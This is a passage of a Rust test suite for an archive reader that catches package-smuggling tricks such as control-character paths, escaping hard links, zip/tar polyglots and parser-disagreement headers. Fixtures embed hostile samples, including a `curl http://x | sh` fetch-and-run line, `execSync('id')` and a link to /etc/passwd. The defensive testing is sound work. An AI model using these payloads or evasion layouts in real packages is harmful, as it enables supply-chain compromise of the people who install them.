                check_member_path(bad).is_err(),
                "{:?}",
                String::from_utf8_lossy(bad)
            );
        }
    }

    /// A line break in a path split the rendered header in two: a
    /// stealer named `lib/README.md\n/metrics.js` was read by the veto as
    /// the README it seemed to be, and allowed. Such names are refused in a
    /// package, an unpacked folder, and escaped (and noted) inside an
    /// inner archive.
    #[test]
    fn control_characters_in_paths_are_refused() {
        for bad in [
            "pkg/lib/README.md\n/metrics.js",
            "pkg/a\rb.py",
            "pkg/tab\there.py",
            "pkg/a\u{85}b.py",
            "pkg/a\u{2028}b.py",
        ] {
            match check_member_path(bad.as_bytes()) {
                Err(ArchiveError::ControlInPath { member }) => assert_eq!(member, bad),
                other => panic!("{bad:?}: {other:?}"),
            }
            let tar = tar_of(&[("pkg/README.md", b"# hi\n"), (bad, b"x = 1\n")]);
            assert!(matches!(
                read_archive(&tar, ArchiveFormat::Tar, &Limits::default()),
                Err(ArchiveError::ControlInPath { .. })
            ));
        }
        let inner = zip_of(&[("lib/README.md\n/metrics.js", b"x = 1\n")]);
        let outer = tar_of(&[("pkg/vendor.zip", &inner)]);
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let p = read_archive(&gz(&outer), ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(
            paths(&p),
            ["pkg/vendor.zip/lib/README.md<U+000A>/metrics.js"]
        );
        assert!(
            p.notes.iter().any(|n| n.contains("control character")),
            "{:?}",
            p.notes
        );
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("a\nb.py"), "x = 1\n").unwrap();
        assert!(matches!(
            read_dir(dir.path(), &Limits::default()),
            Err(ArchiveError::ControlInPath { .. })
        ));
    }

    #[test]
    fn links_resolve_from_their_folder_or_for_hard_links_from_the_root() {
        assert_eq!(
            resolve_link("pkg/a/link", "../b/c").as_deref(),
            Some("pkg/b/c")
        );
        assert_eq!(resolve_link("pkg/link", "./x").as_deref(), Some("pkg/x"));
        assert_eq!(resolve_link("", "pkg/c").as_deref(), Some("pkg/c"));
        assert_eq!(resolve_link("pkg/link", "../../etc"), None);
        assert_eq!(resolve_link("pkg/link", "/etc"), None);
        // A hard link's target is from the root: `../..` from pkg/a/ stays
        // inside as a symlink, and leaves the archive as a hard link.
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Link);
        h.set_size(0);
        h.set_path("pkg/a/b").unwrap();
        h.set_link_name("../../etc/passwd").unwrap_or(());
        h.as_gnu_mut().unwrap().linkname[..16].copy_from_slice(b"../../etc/passwd");
        h.set_cksum();
        b.append(&h, &b""[..]).unwrap();
        let tar = b.into_inner().unwrap();
        match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
            Err(ArchiveError::Escape { member, why }) => {
                assert_eq!(member, "pkg/a/b");
                assert!(why.contains("hard link"), "{why}");
            }
            other => panic!("expected the hard link to escape, got {other:?}"),
        }
        // Links that stay inside are noted and listed with where they lead.
        let mut b = tar::Builder::new(Vec::new());
        for (kind, path, to) in [
            (tar::EntryType::Symlink, "pkg/lib/run.js", "../README.md"),
            (tar::EntryType::Link, "pkg/setup.py", "pkg/docs/x.txt"),
        ] {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(kind);
            h.set_size(0);
            h.set_path(path).unwrap();
            h.set_link_name(to).unwrap();
            h.set_cksum();
            b.append(&h, &b""[..]).unwrap();
        }
        let p = read_archive(
            &b.into_inner().unwrap(),
            ArchiveFormat::Tar,
            &Limits::default(),
        );
        assert_eq!(
            p.unwrap().links,
            [
                ("pkg/lib/run.js".to_string(), "pkg/README.md".to_string()),
                ("pkg/setup.py".to_string(), "pkg/docs/x.txt".to_string()),
            ]
        );
    }

    #[test]
    fn link_targets() {
        assert!(resolve_link("pkg/lib/a", "../b").is_some());
        assert!(resolve_link("pkg/a", "../../etc").is_none());
        assert!(resolve_link("pkg/a", "/etc").is_none());
        assert!(resolve_link("pkg/a", "sub/b").is_some());
    }

    #[test]
    fn formats() {
        assert_eq!(
            ArchiveFormat::from_path(Path::new("x-1.0.tgz")),
            Some(ArchiveFormat::TarGz)
        );
        assert_eq!(
            ArchiveFormat::from_path(Path::new("X-1.0-py3-none-any.WHL")),
            Some(ArchiveFormat::Zip)
        );
        assert_eq!(
            ArchiveFormat::from_path(Path::new("x.tar.bz2")),
            Some(ArchiveFormat::TarBz2)
        );
        assert_eq!(ArchiveFormat::from_path(Path::new("x.diff")), None);
        assert_eq!(
            ArchiveFormat::sniff(b"PK\x03\x04rest"),
            Some(ArchiveFormat::Zip)
        );
    }

    fn tar_of(files: &[(&str, &[u8])]) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        for (name, data) in files {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o644);
            h.set_entry_type(tar::EntryType::Regular);
            // Raw, so a test can write `..`, which set_path refuses.
            h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
            h.set_cksum();
            b.append(&h, *data).unwrap();
        }
        b.into_inner().unwrap()
    }

    fn gz(data: &[u8]) -> Vec<u8> {
        gz_at(data, flate2::Compression::fast())
    }

    fn gz_at(data: &[u8], level: flate2::Compression) -> Vec<u8> {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), level);
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
        use std::io::Write;
        let mut z = zip::ZipWriter::new(Cursor::new(Vec::new()));
        for (name, data) in files {
            z.start_file(*name, zip::write::SimpleFileOptions::default())
                .unwrap();
            z.write_all(data).unwrap();
        }
        z.finish().unwrap().into_inner()
    }

    fn paths(p: &Package) -> Vec<&str> {
        p.members.iter().map(|m| m.path.as_str()).collect()
    }

    /// A path longer than `PATH_MAX` is refused, naming its start, in a tar
    /// (a GNU long name) and in a zip; one of exactly `PATH_MAX` bytes is
    /// read. Paths in all are counted in bytes and in parts: the budget
    /// refuses the path that goes past either, naming the cap.
    #[test]
    fn paths_too_long_one_by_one_or_in_all_are_refused() {
        let named = |letters: usize| format!("pkg/{}{}.py", "a/".repeat(2000), "b".repeat(letters));
        let (at_max, over) = (named(89), named(90));
        assert_eq!(at_max.len(), PATH_MAX);
        let in_tar = |name: &str| {
            let mut b = tar::Builder::new(Vec::new());
            for path in ["pkg/setup.py", name] {
                let mut h = tar::Header::new_gnu();
                h.set_size(2);
                h.set_mode(0o644);
                h.set_entry_type(tar::EntryType::Regular);
                b.append_data(&mut h, path, &b"x\n"[..]).unwrap();
            }
            read_archive(
                &gz(&b.into_inner().unwrap()),
                ArchiveFormat::TarGz,
                &Limits::default(),
            )
        };
        let in_zip = |name: &str| {
            let files: [(&str, &[u8]); 2] = [("pkg/setup.py", b"x\n"), (name, b"x\n")];
            read_archive(&zip_of(&files), ArchiveFormat::Zip, &Limits::default())
        };
        for read in [&in_tar as &dyn Fn(&str) -> _, &in_zip] {
            let p = read(&at_max).expect("a path of PATH_MAX bytes is read");
            assert!(paths(&p).contains(&at_max.as_str()));
            match read(&over) {
                Err(e @ ArchiveError::PathTooLong { .. }) => {
                    let e = e.to_string();
                    assert!(
                        e.contains("\"pkg/a/a/a/")
                            && e.contains("/a/\"… has")
                            && e.contains("4097 bytes"),
                        "{e}"
                    );
                }
                other => panic!("{other:?}"),
            }
        }
        // In all: the member that passes a cap is named, with the cap.
        let third_refused = |bytes: u64, parts: u64, paths: [&str; 3], cap: &str| {
            let mut budget = Budget::new(&Limits::default(), 1 << 20);
            (budget.paths_left, budget.parts_left) = (bytes, parts);
            budget.add_member(paths[0]).unwrap();
            budget.add_member(paths[1]).unwrap();
            match budget.add_member(paths[2]) {
                Err(e @ ArchiveError::PathsTooLong { .. }) => {
                    let e = e.to_string();
                    let at = format!("(at {:?})", paths[2]);
                    assert!(e.contains(&at) && e.contains(cap), "{e}");
                }
                other => panic!("{other:?}"),
            }
        };
        third_refused(
            30,
            100,
            ["pkg/one.py", "pkg/two.py", "pkg/three.py"],
            "16777216 bytes in all",
        );
        third_refused(
            100,
            7,
            ["pkg/a/b/c.py", "pkg/d.py", "pkg/e.py"],
            "2000000 parts in all",
        );
    }

    /// Two names for one file on macOS or Windows: refused in the package
    /// itself, naming both; read as they are inside an inner archive.
    #[test]
    fn paths_a_case_insensitive_file_system_merges_are_refused() {
        let twin = |files: &[(&str, &[u8])]| match read_archive(
            &gz(&tar_of(files)),
            ArchiveFormat::TarGz,
            &Limits::default(),
        ) {
            Err(ArchiveError::Ambiguous { member, why }) => Some((member, why)),
            Ok(_) => None,
            Err(e) => panic!("{e}"),
        };
        let (member, why) = twin(&[
            ("pkg/index.js", b"module.exports = 1;\n"),
            (
                "pkg/INDEX.js",
                b"require('child_process').execSync('id');\n",
            ),
        ])
        .unwrap();
        assert_eq!(member, "pkg/INDEX.js");
        assert!(
            why.contains("\"pkg/index.js\"") && why.contains("letter case"),
            "{why}"
        );
        for second in [
            "pkg/Lib/a.py",
            "pkg/lib/a.py.",
            "pkg/lib/a.py ",
            "PKG/lib/A.PY",
        ] {
            assert!(
                twin(&[("pkg/lib/a.py", b"x = 1\n"), (second, b"y = 2\n")]).is_some(),
                "{second}"
            );
        }
        // Other names in folders that differ in case: no file is shared.
        assert!(twin(&[("pkg/Lib/a.py", b"x\n"), ("pkg/lib/b.py", b"y\n")]).is_none());
        // npm unpacks a tarball without each member's first folder.
        let (member, why) = twin(&[
            ("package/index.js", b"module.exports = 1;\n"),
            ("x/index.js", b"module.exports = 2;\n"),
        ])
        .unwrap();
        assert_eq!(member, "x/index.js");
        assert!(
            why.contains("\"package/index.js\"") && why.contains("npm"),
            "{why}"
        );
        assert!(twin(&[("package/lib/a.js", b"1\n"), ("other/LIB/A.js", b"2\n")]).is_some());
        // A file beside the folder (npm skips it), another name: no twin.
        assert!(twin(&[("index.js", b"1\n"), ("package/index.js", b"2\n")]).is_none());
        assert!(twin(&[("package/a.js", b"1\n"), ("x/b.js", b"2\n")]).is_none());
        // npm reads no zip.
        let zip = zip_of(&[("package/index.js", b"1\n"), ("x/index.js", b"2\n")]);
        assert!(read_archive(&zip, ArchiveFormat::Zip, &Limits::default()).is_ok());
        // A link is a name too.
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(5);
        b.append_data(&mut h, "pkg/README.md", &b"# hi\n"[..])
            .unwrap();
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_size(0);
        b.append_link(&mut h, "pkg/Readme.md", "README.md").unwrap();
        let linked = b.into_inner().unwrap();
        let got = read_archive(&linked, ArchiveFormat::Tar, &Limits::default());
        assert!(
            matches!(&got, Err(ArchiveError::Ambiguous { member, .. }) if member == "pkg/Readme.md"),
            "{got:?}"
        );
        // Inside an inner archive, which no install unpacks: both read.
        let inner = tar_of(&[("t/a.py", b"x = 1\n"), ("t/A.py", b"y = 2\n")]);
        let p = read_archive(
            &gz(&tar_of(&[("pkg/tests/case.tar", &inner)])),
            ArchiveFormat::TarGz,
            &Limits::default(),
        )
        .unwrap();
        assert_eq!(
            paths(&p),
            ["pkg/tests/case.tar/t/a.py", "pkg/tests/case.tar/t/A.py"]
        );
    }

    /// pip unzips any file Python's zipfile takes for a zip before it tries
    /// tar: a tarball carrying a zip verbatim near its end installs the
    /// zip's members. Every tar format is refused so; a zip inside a
    /// compressed stream (not verbatim), or far from the end, is not one.
    #[test]
    fn a_tarball_that_python_s_zipfile_takes_for_a_zip_is_refused() {
        let inner = zip_of(&[("pkg-1.0/setup.py", b"import os\nos.system('id')\n")]);
        let files: [(&str, &[u8]); 2] = [
            (
                "pkg-1.0/setup.py",
                b"from setuptools import setup\nsetup()\n",
            ),
            ("pkg-1.0/tests/data.zip", &inner),
        ];
        let tar = tar_of(&files);
        let plain = tar_of(&files[..1]);
        // Stored deflate blocks: the tar's bytes, the zip's included,
        // appear in the file as they are.
        let stored = gz_at(&tar, flate2::Compression::none());
        let ambiguous = |bytes: &[u8], format| match read_archive(bytes, format, &Limits::default())
        {
            Err(ArchiveError::Ambiguous { member, why }) => {
                assert!(member.contains("end-of-central-directory"), "{member}");
                assert!(why.contains("pip"), "{why}");
                true
            }
            Ok(_) => false,
            Err(e) => panic!("{e}"),
        };
        assert!(python_finds_zip(&tar) && python_finds_zip(&stored));
        assert!(ambiguous(&tar, ArchiveFormat::Tar));
        assert!(ambiguous(&stored, ArchiveFormat::TarGz));
        // The same members compressed: the zip's bytes are not in the file.
        assert!(!python_finds_zip(&gz(&tar)));
        let p = read_archive(&gz(&tar), ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert!(paths(&p).contains(&"pkg-1.0/tests/data.zip/pkg-1.0/setup.py"));
        assert!(!ambiguous(&plain, ArchiveFormat::Tar));
        // A zip is a zip: read as one.
        assert!(python_finds_zip(&inner));
        assert!(read_archive(&inner, ArchiveFormat::Zip, &Limits::default()).is_ok());

        // zipfile._EndRecData: a record closing the file; else the last
        // one in the final 64 KiB + 22 bytes, with a whole record after it.
        let mut closing = vec![b'x'; 100];
        closing.extend_from_slice(b"PK\x05\x06");
        closing.extend_from_slice(&[0; 18]);
        assert!(python_finds_zip(&closing));
        let cut = &closing[..closing.len() - 1];
        assert!(!python_finds_zip(cut), "a record cut short is none");
        let mut far = closing.clone();
        far.extend(std::iter::repeat_n(b'y', (1 << 16) + 1));
        assert!(
            !python_finds_zip(&far),
            "beyond the 64 KiB zipfile searches"
        );
        let mut near = closing.clone();
        near.extend(std::iter::repeat_n(b'y', 1 << 16));
        assert!(python_finds_zip(&near));
        assert!(!python_finds_zip(b"PK\x05\x06"));
    }

    fn member<'p>(p: &'p Package, path: &str) -> &'p [u8] {
        &p.members.iter().find(|m| m.path == path).unwrap().data
    }

    #[test]
    fn an_archive_inside_the_package_is_read_as_a_folder_by_its_content() {
        // A payload importable from a vendored zip (zipimport), a zip with a
        // harmless name, a tarball and a gzip-compressed file.
        let payload = b"import os\nos.system('curl http://x | sh')\n";
        let inner = zip_of(&[("evil/__init__.py", payload)]);
        let tgz = gz(&tar_of(&[("lib/a.py", b"A = 1\n")]));
        let outer = gz(&tar_of(&[
            (
                "pkg/setup.py",
                b"import sys\nsys.path.insert(0, 'vendor/lib.zip')\n",
            ),
            ("pkg/vendor/lib.zip", &inner),
            ("pkg/data/blob.bin", &inner),
            ("pkg/vendor/more.tar.gz", &tgz),
            ("pkg/data/rows.csv.gz", &gz(b"a,b\n1,2\n")),
        ]));
        let p = read_archive(&outer, ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(
            paths(&p),
            [
                "pkg/setup.py",
                "pkg/vendor/lib.zip/evil/__init__.py",
                "pkg/data/blob.bin/evil/__init__.py",
                "pkg/vendor/more.tar.gz/lib/a.py",
                "pkg/data/rows.csv.gz/rows.csv",
            ]
        );
        assert_eq!(member(&p, "pkg/vendor/lib.zip/evil/__init__.py"), payload);
        assert_eq!(member(&p, "pkg/data/rows.csv.gz/rows.csv"), b"a,b\n1,2\n");
        let note = p.notes.iter().find(|n| n.contains("inside the package"));
        assert!(
            note.is_some_and(|n| n.starts_with("4 archive(s)") && n.contains("pkg/vendor/lib.zip")),
            "{:?}",
            p.notes
        );
        // The same package unpacked in a folder reads the same way.
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("vendor")).unwrap();
        std::fs::write(dir.path().join("vendor/lib.zip"), &inner).unwrap();
        let d = read_dir(dir.path(), &Limits::default()).unwrap();
        assert_eq!(paths(&d), ["vendor/lib.zip/evil/__init__.py"]);
    }

    #[test]
    fn a_zip_appended_to_a_binary_is_read_and_chance_bytes_are_not() {
        // An "image" with a zip after it: importable from, as it is.
        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
        png.extend_from_slice(&[7u8; 5000]);
        let mut polyglot = png.clone();
        polyglot.extend(zip_of(&[("evil/__init__.py", b"import os\n")]));
        let outer = tar_of(&[("pkg/logo.png", &polyglot)]);
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let p = read_archive(&gz(&outer), ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/logo.png/evil/__init__.py"]);
        // The record's four bytes alone, in a binary: still one file.
        let mut chance = png;
        chance.extend(b"PK\x05\x06 and nothing a zip reader accepts");
        let outer = tar_of(&[("pkg/lib.so", &chance)]);
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let p = read_archive(&gz(&outer), ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/lib.so"]);
    }

    #[test]
    fn nesting_past_the_cap_blocks_naming_the_member_and_the_cap() {
        let innermost = zip_of(&[("x.py", b"x = 1\n")]);
        let middle = zip_of(&[("inner.zip", &innermost)]);
        let outer = tar_of(&[("pkg/middle.zip", &middle)]);
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let err = read_archive(&gz(&outer), ArchiveFormat::TarGz, &Limits::default()).unwrap_err();
        match err {
            ArchiveError::Limit { key, what, limit } => {
                assert_eq!((key, limit), ("max-nesting", 1));
                assert!(what.contains("pkg/middle.zip/inner.zip"), "{what}");
            }
            other => panic!("expected the nesting cap, got {other:?}"),
        }
        // One level more is read when the config allows it, and none when it
        // says 0 (an inner archive then blocks: it is not left unread).
        let two = Limits {
            max_nesting: 2,
            ..Limits::default()
        };
        // Compressed: a plain tar ending in a zip's bytes is one pip unzips.
        let p = read_archive(&gz(&outer), ArchiveFormat::TarGz, &two).unwrap();
        assert_eq!(paths(&p), ["pkg/middle.zip/inner.zip/x.py"]);
        let none = Limits {
            max_nesting: 0,
            ..Limits::default()
        };
        let one = tar_of(&[("pkg/inner.zip", &innermost)]);
        assert!(matches!(
            read_archive(&gz(&one), ArchiveFormat::TarGz, &none),
            Err(ArchiveError::Limit {
                key: "max-nesting",
                ..
            })
        ));
    }

    #[test]
    fn every_member_of_a_multi_member_stream_is_read() {
        // `cat a.gz b.gz`: gzip(1) and Python's tarfile read both members,
        // so a payload in the second must not go unread (it was: the first
        // member alone was judged, and allowed).
        let whole = tar_of(&[
            ("pkg/README.md", b"hello\n"),
            ("pkg/setup.py", b"payload\n"),
        ]);
        let (a, b) = whole.split_at(1024); // one header and one data block
        let mut two_gz = gz(a);
        two_gz.extend(gz(b));
        let p = read_archive(&two_gz, ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/README.md", "pkg/setup.py"]);
        let bz = |d: &[u8]| {
            let mut out = Vec::new();
            bzip2::read::BzEncoder::new(d, bzip2::Compression::fast())
                .read_to_end(&mut out)
                .unwrap();
            out
        };
        let mut two_bz = bz(a);
        two_bz.extend(bz(b));
        let p = read_archive(&two_bz, ArchiveFormat::TarBz2, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/README.md", "pkg/setup.py"]);
        // The same inside a package.
        let outer = tar_of(&[("pkg/vendor/v.tar.gz", &two_gz)]);
        let p = read_archive(&outer, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(
            paths(&p),
            [
                "pkg/vendor/v.tar.gz/pkg/README.md",
                "pkg/vendor/v.tar.gz/pkg/setup.py"
            ]
        );
    }

    #[test]
    fn zero_padding_after_the_last_gzip_member_is_skipped_as_gzip_does() {
        // gzip(1) and Python's gzip skip zero bytes after the last member
        // (a tape, or a fixed-size upload, pads with them); `MultiGzDecoder`
        // took them for a bad header, and refused the package.
        let whole = tar_of(&[("pkg/setup.py", b"payload\n")]);
        let mut padded = gz(&whole);
        // A member's trailer may itself end in zero bytes (its size, mod
        // 2^32): only what follows the member is padding.
        assert_eq!(padded[padded.len() - 1], 0, "the size's high byte");
        padded.extend([0u8; 4096]);
        let p = read_archive(&padded, ArchiveFormat::TarGz, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/setup.py"]);
        // Padding, then another member: Python would skip the zeros and
        // read it, while a reader that stops at the padding would not.
        // Two readings: refused.
        let mut hidden = padded.clone();
        hidden.extend(gz(&tar_of(&[("pkg/evil.py", b"x\n")])));
        assert!(matches!(
            read_archive(&hidden, ArchiveFormat::TarGz, &Limits::default()),
            Err(ArchiveError::Corrupt(_))
        ));
        // Anything else after the last member is refused, as before.
        let mut garbage = gz(&whole);
        garbage.extend(b"garbage");
        assert!(read_archive(&garbage, ArchiveFormat::TarGz, &Limits::default()).is_err());
        // A stream of zeros is no gzip at all.
        assert!(read_archive(&[0u8; 64], ArchiveFormat::TarGz, &Limits::default()).is_err());
    }

    #[test]
    fn an_entry_of_unknown_type_is_read_as_the_file_python_unpacks() {
        let mut b = tar::Builder::new(Vec::new());
        for (kind, path, data) in [
            (
                tar::EntryType::new(b'Z'),
                "pkg/setup.py",
                &b"import os\n"[..],
            ),
            (tar::EntryType::Fifo, "pkg/pipe", &b""[..]),
        ] {
            let mut h = tar::Header::new_gnu();
            h.set_entry_type(kind);
            h.set_size(data.len() as u64);
            h.set_path(path).unwrap();
            h.set_cksum();
            b.append(&h, data).unwrap();
        }
        let p = read_archive(
            &b.into_inner().unwrap(),
            ArchiveFormat::Tar,
            &Limits::default(),
        );
        let p = p.unwrap();
        assert_eq!(paths(&p), ["pkg/setup.py"]);
        assert_eq!(member(&p, "pkg/setup.py"), b"import os\n");
        let notes = p.notes.join("\n");
        assert!(
            notes.contains("type 'Z'") && notes.contains("pkg/pipe: not a regular file"),
            "{notes}"
        );
    }

    #[test]
    fn a_pax_global_header_that_renames_members_is_refused() {
        let global = |records: &[u8]| {
            let mut b = tar::Builder::new(Vec::new());
            let mut h = tar::Header::new_ustar();
            h.set_entry_type(tar::EntryType::XGlobalHeader);
            h.set_size(records.len() as u64);
            h.set_path("pax_global_header").unwrap();
            h.set_cksum();
            b.append(&h, records).unwrap();
            let mut h = tar::Header::new_ustar();
            h.set_size(2);
            h.set_path("pkg/docs/notes.txt").unwrap();
            h.set_cksum();
            b.append(&h, &b"x\n"[..]).unwrap();
            read_archive(
                &b.into_inner().unwrap(),
                ArchiveFormat::Tar,
                &Limits::default(),
            )
        };
        // What `git archive` writes: read as usual.
        let git = global(b"52 comment=0123456789abcdef0123456789abcdef01234567\n");
        assert_eq!(paths(&git.unwrap()), ["pkg/docs/notes.txt"]);
        // Python would unpack notes.txt as setup.py.
        match global(b"21 path=pkg/setup.py\n") {
            Err(ArchiveError::Ambiguous { why, .. }) => assert!(why.contains("`path`"), "{why}"),
            other => panic!("expected the global path to be refused, got {other:?}"),
        }
        assert_eq!(pax_keys(b"11 size=12\n8 a=bcd\n"), ["size", "a"]);
        assert!(pax_keys(b"99 path=x\n").is_empty());
    }

    #[test]
    fn names_that_tar_readers_resolve_differently_are_refused() {
        // Raw blocks: a pax header, a GNU long name, then the member.
        let block = |name: &str, kind: u8, data: &[u8]| raw_block(gnu(), name, kind, data);
        let member = block("pkg/docs/notes.txt", b'0', b"x\n");
        let end = vec![0u8; 1024];
        let pax_then_long = [
            block("pax", b'x', b"21 path=pkg/setup.py\n"),
            block("././@LongLink", b'L', b"pkg/docs/notes.txt\0"),
            member.clone(),
            end.clone(),
        ]
        .concat();
        let twice = [
            block(
                "pax",
                b'x',
                b"27 path=pkg/docs/notes.txt\n21 path=pkg/setup.py\n",
            ),
            member.clone(),
            end.clone(),
        ]
        .concat();
        for (case, tar) in [("long name", pax_then_long), ("twice", twice)] {
            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
                Err(ArchiveError::Ambiguous { why, .. }) => {
                    assert!(why.contains("`path`"), "{why}")
                }
                other => panic!("{case}: expected an ambiguous name, got {other:?}"),
            }
        }
        // One pax path, as tar writers emit for long names: read as usual.
        let one = [block("pax", b'x', b"21 path=pkg/setup.py\n"), member, end].concat();
        let p = read_archive(&one, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/setup.py"]);
    }

    fn gnu() -> tar::Header {
        tar::Header::new_gnu()
    }

    /// One tar entry as raw blocks: `header` (GNU, ustar or old-style) named
    /// `name` (raw, so `..` and `x/` can be written), of type `kind`,
    /// declaring and holding `data`.
    fn raw_block(mut h: tar::Header, name: &str, kind: u8, data: &[u8]) -> Vec<u8> {
        h.set_size(data.len() as u64);
        // The byte itself: the tar crate writes `\0` as `0`.
        h.as_old_mut().linkflag = [kind];
        h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
        h.set_cksum();
        let mut out = h.as_bytes().to_vec();
        out.extend(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
        out
    }

    /// Python's tarfile skips the data of regular files only: after a link,
    /// directory, device or fifo that declares data it reads the next
    /// header from that data, where the tar crate skips it. Checked with
    /// Python 3.11 on the same layout: it lists the hidden `setup.py`.
    #[test]
    fn data_that_python_reads_as_headers_is_refused() {
        let hidden = raw_block(gnu(), "pkg/setup.py", b'0', b"import os\n");
        let end = vec![0u8; 1024];
        let readme = raw_block(gnu(), "pkg/README.md", b'0', b"# hi\n");
        for (name, kind) in [
            ("pkg/alias.py", b'1'),
            ("pkg/alias.py", b'2'),
            ("pkg/dev", b'3'),
            ("pkg/dev", b'4'),
            ("pkg/lib", b'5'),
            ("pkg/fifo", b'6'),
            ("pkg/lib/", b'\0'),
        ] {
            let tar = [
                readme.clone(),
                raw_block(gnu(), name, kind, &hidden),
                end.clone(),
            ]
            .concat();
            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
                Err(ArchiveError::Ambiguous { member, why }) => {
                    assert_eq!(member, name);
                    assert!(why.contains("declaring 1024 bytes"), "{why}");
                }
                other => panic!("type {kind}: expected a refusal, got {other:?}"),
            }
            // Declaring no data, the same entry is read as before.
            let tar = [
                readme.clone(),
                raw_block(gnu(), name, kind, b""),
                end.clone(),
            ]
            .concat();
            let p = read_archive(&tar, ArchiveFormat::Tar, &Limits::default()).unwrap();
            assert!(paths(&p).contains(&"pkg/README.md"), "type {kind}");
            assert!(!paths(&p).contains(&"pkg/setup.py"), "type {kind}");
        }
        // A regular file's data is skipped by both: the hidden header is
        // that file's content (a tar, so read as an inner archive under the
        // file's path), not a member of the package.
        let tar = [raw_block(gnu(), "pkg/blob.bin", b'0', &hidden), end].concat();
        let p = read_archive(&tar, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["pkg/blob.bin/pkg/setup.py"]);
    }

    /// npm's node-tar reads on after a single zero block (it ends only at
    /// two), skipping blocks that are not headers; Python's tarfile and the
    /// tar crate stop at the first. Checked with npm's tar 7.5.22 and
    /// Python 3.11 on the same layout: npm lists the hidden member, Python
    /// does not.
    #[test]
    fn data_after_the_end_of_the_archive_is_refused() {
        let readme = raw_block(gnu(), "package/README.md", b'0', b"# hi\n");
        let hidden = raw_block(gnu(), "package/lib/util.js", b'0', b"x = 1\n");
        let zero = vec![0u8; 512];
        for (case, tar) in [
            (
                "member after one zero block",
                [readme.clone(), zero.clone(), hidden.clone()].concat(),
            ),
            (
                "junk, then a member",
                [
                    readme.clone(),
                    zero.clone(),
                    vec![b'x'; 512],
                    hidden.clone(),
                ]
                .concat(),
            ),
        ] {
            for tar in [tar.clone(), gz(&tar)] {
                let format = ArchiveFormat::sniff(&tar).unwrap();
                match read_archive(&tar, format, &Limits::default()) {
                    Err(ArchiveError::Ambiguous { member, why }) => {
                        assert_eq!(member, "(end of archive)", "{case}");
                        assert!(why.contains("npm's tar reads on"), "{case}: {why}");
                    }
                    other => panic!("{case}: expected a refusal, got {other:?}"),
                }
            }
        }
        // Zeros after the end, however many (tar pads to its record size),
        // are the end.
        let padded = [readme, vec![0u8; 10240]].concat();
        let p = read_archive(&padded, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(paths(&p), ["package/README.md"]);
    }

    /// npm's tar skips a header that names a link target but is not a
    /// link, or has no name, and reads its data as headers; it takes an `N`
    /// entry's data as the next name. Checked with npm's tar 7.5.22 on the
    /// same layouts: it lists the hidden `package/lib/util.js` for each.
    #[test]
    fn entries_npm_skips_or_renames_are_refused() {
        let old_style =
            |name: &str, data: &[u8]| raw_block(tar::Header::new_old(), name, b'0', data);
        let hidden = old_style("package/lib/util.js", b"x = 1\n");
        let mut linked = gnu();
        linked.set_link_name("x").unwrap();
        let end = vec![0u8; 1024];
        for (case, entry, want) in [
            (
                "link name on a file",
                raw_block(linked, "package/logo.bin", b'0', &hidden),
                "names a link target",
            ),
            (
                "no name",
                raw_block(gnu(), "", b'0', &hidden),
                "without a name",
            ),
            (
                "N entry",
                raw_block(gnu(), "package/name.txt", b'N', b"package/lib/util.js"),
                "old GNU long path",
            ),
        ] {
            let tar = [
                entry,
                old_style("package/docs/notes.txt", b"x\n"),
                end.clone(),
            ]
            .concat();
            match read_archive(&tar, ArchiveFormat::Tar, &Limits::default()) {
                Err(ArchiveError::Ambiguous { why, .. }) => {
                    assert!(why.contains(want), "{case}: {why}")
                }
                other => panic!("{case}: expected a refusal, got {other:?}"),
            }
        }
        // A link names its target: read as before.
        let mut link = gnu();
        link.set_link_name("README.md").unwrap();
        let tar = [raw_block(link, "package/README", b'2', b""), end].concat();
        let p = read_archive(&tar, ArchiveFormat::Tar, &Limits::default()).unwrap();
        assert_eq!(
            p.links,
            [(
                "package/README".to_string(),
                "package/README.md".to_string()
            )]
        );
    }

    /// Long names and pax records the tar crate does not apply (in an
    /// old-style header, a Solaris `X` header, `GNU.sparse.name`) and a
    /// path prefix outside a ustar header rename a member for Python's
    /// tarfile only. Checked with Python 3.11 on the same layouts: it lists
    /// the hidden name for each.
    #[test]
    fn names_only_python_applies_are_refused() {
        let member = raw_block(tar::Header::new_old(), "pkg/docs/notes.txt", b'0', b"x\n");
        let end = vec![0u8; 1024];
